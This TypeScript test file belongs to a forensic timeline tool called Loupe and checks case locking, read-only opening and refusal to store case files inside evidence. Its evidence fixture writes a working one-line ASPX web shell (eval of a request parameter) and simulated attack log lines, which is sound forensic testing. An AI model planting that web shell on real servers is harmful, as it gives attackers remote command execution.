// Issue 11, items 4, 8 and 9: one writer per case (named, stale lock taken over, readers unaffected); no case file
// inside the evidence; reading commands never create, migrate or write, refuse other databases and empty files,
// and work from read-only media.
import assert from 'node:assert/strict';
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import Database from 'better-sqlite3';
import { migrate, openCaseDb } from '../../../electron/case/db.ts';
import { CaseService } from '../../../electron/service.ts';
import { repoRoot, tmpDir } from '../../helpers/tmp.ts';

const BIN = path.join(repoRoot, 'bin/loupe.mjs');
const loupe = (...args: string[]) => spawnSync(process.execPath, [BIN, ...args], { encoding: 'utf8', cwd: repoRoot });
const digest = (f: string): string => crypto.createHash('sha256').update(fs.readFileSync(f)).digest('hex');

const IIS = [
  '#Software: Microsoft Internet Information Services 10.0', '#Version: 1.0', '#Date: 2021-03-02 00:00:01',
  '#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken',
  ...Array.from({ length: 50 }, (_, i) => `2021-03-02 02:${String(10 + (i % 40)).padStart(2, '0')}:32 10.0.0.5 POST /owa/auth/x${i}.js - 443 - 165.232.154.116 python-requests/2.25.1 - 200 0 0 31`), '',
].join('\r\n');

function evidence(dir: string): string {
  const ev = path.join(dir, 'evidence');
  fs.mkdirSync(path.join(ev, 'C/inetpub/logs/LogFiles/W3SVC1'), { recursive: true });
  fs.writeFileSync(path.join(ev, 'C/inetpub/logs/LogFiles/W3SVC1/u_ex210302.log'), IIS);
  fs.mkdirSync(path.join(ev, 'C/inetpub/wwwroot/aspnet_client'), { recursive: true });
  fs.writeFileSync(path.join(ev, 'C/inetpub/wwwroot/aspnet_client/s.aspx'), '<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>');
  return ev;
}

function indexed(dir: string): { ev: string; casePath: string } {
  const ev = evidence(dir);
  const casePath = path.join(dir, 'case', 'c.loupe');
  const r = loupe('index', ev, '--case', casePath, '--quiet');
  assert.equal(r.status, 0, r.stderr);
  return { ev, casePath };
}

const count = (casePath: string, sql = 'SELECT count(*) AS n FROM events'): number => {
  const db = openCaseDb(casePath, { readonly: true });
  try { return (db.prepare(sql).get() as { n: number }).n; } finally { db.close(); }
};

async function holdLock(casePath: string, writing = false): Promise<ChildProcess> {
  const child = spawn(process.execPath, ['--import', 'tsx', path.join(repoRoot, 'test/helpers/hold-lock.ts'), casePath, ...(writing ? ['--writing'] : [])], { cwd: repoRoot, stdio: ['ignore', 'pipe', 'inherit'] });
  await new Promise<void>((resolve, reject) => {
    child.stdout!.once('data', () => resolve());
    child.once('exit', (c) => reject(new Error(`lock holder exited ${c}`)));
  });
  return child;
}

const killed = (c: ChildProcess): Promise<unknown> => { const done = new Promise((r) => c.once('exit', r)); c.kill('SIGKILL'); return done; };

test('item 4: a second writer is refused with the holder named; a crashed holder\'s lock is taken over; no duplicated events', async (t) => {
  const dir = tmpDir(t);
  const { ev, casePath } = indexed(dir);
  const events = count(casePath);
  const holder = await holdLock(casePath);
  try {
    const second = loupe('index', ev, '--case', casePath, '--quiet');
    assert.equal(second.status, 1);
    assert.match(second.stderr, new RegExp(`being indexed by another Loupe process: node hold-lock\\.ts \\(pid ${holder.pid}, user \\S+ on \\S+, since 20\\d\\d-`));
    // The browser mode / app door says the same before starting.
    const svc = new CaseService();
    await svc.openCase({ path: casePath });
    await assert.rejects(svc.startIndex(), /being indexed by another Loupe process/);
    svc.close();
  } finally {
    await killed(holder);
  }
  // The holder died without releasing: the next run takes over, says so, and the counts stay exact.
  const after = loupe('index', ev, '--case', casePath, '--quiet');
  assert.equal(after.status, 0, after.stderr);
  assert.equal(count(casePath), events);
  assert.equal(count(casePath, "SELECT count(*) AS n FROM warnings WHERE message LIKE 'an earlier index run ended without finishing (node hold-lock.ts%'"), 1);

  // Two runs started together: whichever order they take, the case ends with one run's events, and the loser is told
  // who holds the case (also when it loses before reaching the lock: SQLite's busy answer is turned into the holder).
  fs.appendFileSync(path.join(ev, 'C/inetpub/logs/LogFiles/W3SVC1/u_ex210302.log'), '2021-03-02 03:00:00 10.0.0.5 GET /x - 443 - 10.0.0.9 curl - 200 0 0 1\r\n');
  const run = () => new Promise<{ code: number | null; err: string }>((resolve) => {
    const c = spawn(process.execPath, [BIN, 'index', ev, '--case', casePath, '--quiet'], { cwd: repoRoot });
    let err = '';
    c.stderr.on('data', (d) => { err += d; });
    c.on('exit', (code) => resolve({ code, err }));
  });
  const both = await Promise.all([run(), run()]);
  for (const r of both) assert.ok(r.code === 0 || (r.code === 1 && /being indexed by another Loupe process: loupe index \(pid \d+/.test(r.err)), r.err);
  assert.equal(count(casePath), events + 1);
});

test('item 4: readers keep working while a writer holds the case in an open write transaction', async (t) => {
  const dir = tmpDir(t);
  const { casePath } = indexed(dir);
  const holder = await holdLock(casePath, true);
  try {
    for (const args of [['findings'], ['verify']]) {
      const r = loupe(...args, '--case', casePath);
      assert.equal(r.status, 0, `${args[0]}: ${r.stderr}`);
    }
    assert.match(loupe('timeline', '--case', casePath, '--query', '165.232.154.116').stdout, /python-requests/);
  } finally {
    await killed(holder);
  }
});

test('item 8: a case file inside the evidence folder (directly or through a link) is refused before anything is written', async (t) => {
  const dir = tmpDir(t);
  const ev = evidence(dir);
  const before = fs.readdirSync(ev, { recursive: true }).sort();
  fs.symlinkSync(ev, path.join(dir, 'link'));
  for (const casePath of [path.join(ev, 'case.loupe'), path.join(ev, 'C', 'sub', 'case.loupe'), path.join(dir, 'link', 'case.loupe')]) {
    const r = loupe('index', ev, '--case', casePath, '--quiet');
    assert.equal(r.status, 1, casePath);
    assert.match(r.stderr, /refusing to keep the case file .* inside the evidence folder/);
  }
  assert.deepEqual(fs.readdirSync(ev, { recursive: true }).sort(), before, 'nothing was written into the evidence');
  // The app's door: a case whose folder is then added as evidence.
  const svc = new CaseService();
  await svc.createCase({ path: path.join(dir, 'outer', 'c.loupe') });
  await assert.rejects(svc.addEvidence({ root: dir }), /inside the evidence folder/);
  svc.close();
});

test('item 9: reading commands refuse another program\'s SQLite database and an empty file, and change neither', (t) => {
  const dir = tmpDir(t);
  const history = path.join(dir, 'History');
  const h = new Database(history);
  h.exec("CREATE TABLE meta(key LONGVARCHAR NOT NULL UNIQUE PRIMARY KEY, value LONGVARCHAR); INSERT INTO meta VALUES ('version', '64'); CREATE TABLE urls(id INTEGER PRIMARY KEY, url LONGVARCHAR);");
  h.close();
  const sum = digest(history);
  for (const cmd of ['findings', 'verify']) {
    const r = loupe(cmd, '--case', history);
    assert.equal(r.status, 1, cmd);
    assert.match(r.stderr, /not a Loupe case: .*History is another program's SQLite database \(tables: meta, urls\)/);
  }
  assert.throws(() => new CaseService({ casePath: history }), /not a Loupe case/);
  assert.equal(loupe('report', '--case', history, '--out', path.join(dir, 'r.html')).status, 1);
  assert.equal(loupe('export', '--case', history, '--format', 'csv', '--out', path.join(dir, 'r.csv')).status, 1);
  assert.equal(loupe('index', path.join(dir, 'nothing'), '--case', history).status, 1);
  assert.equal(digest(history), sum, 'the database is unchanged');
  assert.deepEqual(fs.readdirSync(dir).sort(), ['History'], 'no -wal, -shm, lock or export was created');

  const empty = path.join(dir, 'empty.loupe');
  fs.writeFileSync(empty, '');
  for (const args of [['findings', '--case', empty], ['index', evidence(dir), '--case', empty, '--quiet']]) {
    const r = loupe(...args);
    assert.equal(r.status, 1);
    assert.match(r.stderr, /empty\.loupe is empty \(0 bytes\), not a Loupe case/);
  }
  assert.equal(fs.statSync(empty).size, 0);
});

test('item 9: reading commands open an older case without migrating it; `loupe upgrade` does', (t) => {
  const dir = tmpDir(t);
  // A schema-1 case: what every case made before the later migrations looks like.
  const casePath = path.join(dir, 'old.loupe');
  const db = new Database(casePath);
  migrate(db, 0, 1);
  db.exec('PRAGMA application_id = 0; PRAGMA user_version = 1; PRAGMA journal_mode = DELETE;');
  db.close();
  const sum = digest(casePath);
  const r = loupe('findings', '--case', casePath);
  assert.equal(r.status, 1);
  assert.match(r.stderr, /written by an older Loupe \(schema 1, .*upgrade it once with `loupe upgrade --case/);
  assert.equal(digest(casePath), sum, 'not migrated by a reading command');
  const up = loupe('upgrade', '--case', casePath);
  assert.equal(up.status, 0, up.stderr);
  const after = loupe('files', '--case', casePath);
  assert.equal(after.status, 0, after.stderr);
});

test('item 9: every reading command works on a case on read-only media', (t) => {
  const dir = tmpDir(t);
  const { casePath } = indexed(dir);
  const mnt = path.join(dir, 'ro');
  fs.mkdirSync(mnt);
  if (spawnSync('mount', ['-t', 'tmpfs', '-o', 'size=64m', 'tmpfs', mnt]).status !== 0) { t.skip('cannot mount a file system here (needs root)'); return; }
  try {
    const ro = path.join(mnt, 'c.loupe');
    fs.copyFileSync(casePath, ro);
    assert.equal(spawnSync('mount', ['-o', 'remount,ro', mnt]).status, 0);
    for (const args of [['timeline'], ['files'], ['warnings'], ['findings', '--json']]) {
      const r = loupe(...args, '--case', ro);
      assert.equal(r.status, 0, `${args.join(' ')}: ${r.stderr}`);
    }
    assert.match(loupe('verify', '--case', ro).stderr, /read-only here or busy \(being indexed\), so this verification is not recorded/);
    const report = loupe('report', '--case', ro, '--out', path.join(dir, 'r.html'));
    assert.equal(report.status, 0, report.stderr);
    assert.equal(loupe('export', '--case', ro, '--format', 'csv', '--out', path.join(dir, 'r.csv')).status, 0);
    const edit = loupe('index', path.join(dir, 'evidence'), '--case', ro, '--quiet');
    assert.equal(edit.status, 1);
    assert.match(edit.stderr, /read-only here/);
  } finally {
    spawnSync('umount', [mnt]);
  }
});

test('item 9: a case opened for reading (serve without edits) is not written; the first edit opens it for writing', async (t) => {
  const dir = tmpDir(t);
  const { casePath } = indexed(dir);
  const sum = digest(casePath);
  const svc = new CaseService({ casePath });
  await svc.listFindings();
  await svc.queryTimeline({ limit: 10 });
  await svc.renderReportHtml({});
  assert.equal(digest(casePath), sum);
  assert.equal(fs.existsSync(`${casePath}-wal`), false, 'no write-ahead log was started');
  const first = (await svc.queryTimeline({ limit: 1 })).rows[0];
  await svc.addTag({ eventId: first.id, tag: 'checked' });
  svc.close();
  assert.equal(count(casePath, "SELECT count(*) AS n FROM event_tags WHERE tag = 'checked'"), 1);
});
